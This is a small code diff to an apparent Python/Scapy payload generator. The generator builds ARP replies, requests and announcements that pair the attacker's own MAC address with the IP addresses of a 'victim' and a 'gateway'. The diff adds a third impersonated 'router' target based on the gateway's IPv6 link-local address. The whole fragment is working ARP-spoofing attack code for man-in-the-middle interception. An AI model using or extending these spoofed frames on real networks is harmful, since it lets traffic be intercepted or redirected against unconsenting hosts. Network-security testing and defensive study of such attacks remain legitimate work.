@@ -116,7 +116,8 @@ def payloads(own, victim, gateway):
     link = "fe80::66"
     padding = PadN(optdata=b"\0" * 4)
     arp = lambda **fields: raw(ARP(hwsrc=own["mac"], **fields))
-    for who, name in ((victim, "victim"), (gateway, "gateway")):
+    router = {**gateway, "ipv6": gateway["linkLocal"]}
+    for who, name in ((victim, "victim"), (gateway, "gateway"), (router, "router")):
         yield f"ARP reply of {name}", 0x806, arp(op=2, psrc=who["ipv4"], pdst=victim["ipv4"])
         yield f"ARP request of {name}", 0x806, arp(op=1, psrc=who["ipv4"], pdst="10.20.0.77")
         yield f"announcement of {name}", 0x806, arp(op=1, psrc=who["ipv4"], pdst=who["ipv4"])
